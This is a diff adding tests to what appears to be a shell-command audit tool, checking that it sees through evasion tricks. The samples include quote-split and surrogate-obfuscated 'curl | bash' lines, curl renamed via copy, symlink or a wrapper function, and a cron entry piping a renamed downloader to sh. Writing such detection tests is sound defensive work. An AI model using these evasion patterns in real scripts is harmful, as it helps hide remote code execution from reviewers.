@@ -135,3 +135,39 @@ def test_hostile_text_is_read_in_bounded_time(text: str) -> None:
 def test_a_long_line_does_not_hide_what_comes_after_it() -> None:
     text = "echo " + "a''b " * 10_000 + f"; c''url {ADDRESS} | ba''sh"
     assert PLAIN in reads(text)
+
+
+def test_half_a_character_in_a_command_does_not_stop_an_audit() -> None:
+    hidden = f"$(printf '\\ud800{CU[:2]}'){CU[2:]} {ADDRESS} | ba''sh\n"
+    document = Document(hidden, "run.sh", SourceType.SCRIPT, FileKind.SCRIPT)
+
+    assert [finding.id for finding in inspect(document)] == ["tp-curl-pipe-" + SH]
+
+
+@pytest.mark.parametrize(
+    ("written", "read"),
+    [
+        (f'cp "$(command -v {CU})" ./.k\n./.k -s u | sh', f"{CU} -s u | sh"),
+        (f"ln -s /usr/bin/{CU} /tmp/a\n/tmp/a -s u | sh", f"{CU} -s u | sh"),
+        (f"cp `which {SH}` ~/.x; echo id | ~/.x", f"echo id | {SH}"),
+        (f'k() {{ {CU} -s "$@"; }}\nk u | sh', f"{CU} -s u | sh"),
+        (f"cp $(which {CU}) ./.k\n(echo '* * * * * ./.k -s u | sh') | cat", f"* * * * * {CU} -s u | sh"),
+    ],
+)
+def test_a_command_is_known_under_the_name_that_it_is_given(written: str, read: str) -> None:
+    view = spelled(written + "\n", None)
+    assert view is not None
+    assert read in view.text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "cp a.txt b.txt\nb.txt --help\n",
+        "ln -s /usr/bin/python3 /usr/local/bin/python\n",
+        "build() { make; }\nbuild all\n",
+        f'cp "$(command -v {CU})" ./backup/\nls\n',
+    ],
+)
+def test_ordinary_copies_and_functions_are_left_alone(text: str) -> None:
+    assert spelled(text, None) is None
